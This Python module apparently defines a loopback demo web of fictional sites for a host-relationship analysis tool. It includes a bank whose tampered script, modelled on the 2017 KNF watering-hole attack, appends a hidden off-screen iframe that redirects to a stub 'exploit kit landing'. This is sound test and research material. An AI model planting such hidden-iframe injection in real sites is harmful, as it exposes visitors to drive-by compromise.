"""The bundled demo web: fictional sites modelled on real cases, served on loopback.

`www.demo-bank.com` replays the 2017 KNF case: the bank's own `/js/view.js` appends a hidden
iframe to `sap.misapor-demo.ch`, whose document then sends itself to `www.eye-watch-demo.in` by
script. `shop-a.com` is an ordinary shop with a CDN, analytics, an XHR API and a redirecting
ad pixel.
"""

from __future__ import annotations

from hostpairs.demoweb.server import PIXEL, Resource, VirtualWeb, css, html, js, redirect

DEMO_SEEDS = ["https://www.demo-bank.com/", "https://shop-a.com/"]  # as in seeds/example.toml

BANK_VIEW_JS = """
(function () {
  var frame = document.createElement('iframe');
  frame.src = 'https://sap.misapor-demo.ch/view/index.html';
  frame.width = 1; frame.height = 1;
  frame.style.cssText = 'position:absolute;left:-2000px;top:0;visibility:hidden';
  document.body.appendChild(frame);
})();
"""


def demo_sites(bank_injected: bool = True) -> dict[str, dict[str, Resource]]:
    """The demo sites; `bank_injected=False` gives the bank before its script was tampered with."""
    bank_script = BANK_VIEW_JS if bank_injected else "document.documentElement.dataset.view = 'ok';"
    return {
        "www.demo-bank.com": {
            "/": html("""<!doctype html><html><head><title>Demo Bank</title>
<link rel="stylesheet" href="https://static.demo-bank-cdn.net/css/bank.css">
<script src="https://www.googletagmanager.com/gtag/js?id=G-DEMO1234"></script>
</head><body><h1>Demo Bank</h1><p>Online banking for fictional people.</p>
<a href="/login">Log in</a> <a href="https://www.demo-regulator.org/">Supervised by the Demo Regulator</a>
<script src="/js/view.js" defer></script>
</body></html>"""),
            "/login": html("""<!doctype html><html><head><title>Log in</title>
<link rel="stylesheet" href="https://static.demo-bank-cdn.net/css/bank.css"></head>
<body><form action="/session" method="post"><input name="user"><input name="password" type="password"></form>
<script src="/js/view.js" defer></script></body></html>"""),
            "/js/view.js": js(bank_script),
        },
        "static.demo-bank-cdn.net": {
            "/css/bank.css": css("@import url('https://fonts.demo-fonts.com/css?family=Sans');\n"
                                 "body{background:url('/img/bg.gif')}"),
            "/img/bg.gif": PIXEL,
        },
        "fonts.demo-fonts.com": {"/css": css("body{font-family:sans-serif}")},
        "www.googletagmanager.com": {"/gtag/js": js("window.dataLayer = window.dataLayer || [];")},
        "www.demo-regulator.org": {"/": html("<h1>Demo Regulator</h1>")},
        "sap.misapor-demo.ch": {
            "/view/index.html": html("<script>location.href='https://www.eye-watch-demo.in/jscript/view.php';</script>"),
        },
        "www.eye-watch-demo.in": {"/jscript/view.php": html("<p>exploit kit landing (fictional)</p>")},
        "shop-a.com": {
            "/": html("""<!doctype html><html><head><title>Shop A</title>
<script src="https://cdn-b.net/lib/jquery-3.6.0.min.js"></script>
<link rel="icon" href="https://cdn-b.net/favicon.ico"></head>
<body><h1>Shop A</h1><img src="https://img.cdn-b.net/products/1.gif">
<a href="/cart">Cart</a>
<script>fetch('https://api.shop-a-backend.com/v1/cart').catch(function () {});</script>
<img src="https://ads.adnet-c.com/pixel.gif" width="1" height="1">
</body></html>"""),
            "/cart": html("<h1>Cart</h1><script src='https://js.pay-d.com/v3/checkout.js'></script>"),
        },
        "cdn-b.net": {"/lib/jquery-3.6.0.min.js": js("window.jQuery = function () {};"),
                      "/favicon.ico": PIXEL},
        "img.cdn-b.net": {"/products/1.gif": PIXEL},
        "api.shop-a-backend.com": {"/v1/cart": Resource(body="{}", content_type="application/json",
                                                       headers={"Access-Control-Allow-Origin": "*"})},
        "ads.adnet-c.com": {"/pixel.gif": redirect("https://track.adnet-c-sync.net/p.gif")},
        "track.adnet-c-sync.net": {"/p.gif": PIXEL},
        "js.pay-d.com": {"/v3/checkout.js": js("window.PayD = {};")},
    }


def demo_web(bank_injected: bool = True) -> VirtualWeb:
    """A not yet started VirtualWeb serving the demo sites (use it as a context manager)."""
    return VirtualWeb(demo_sites(bank_injected))
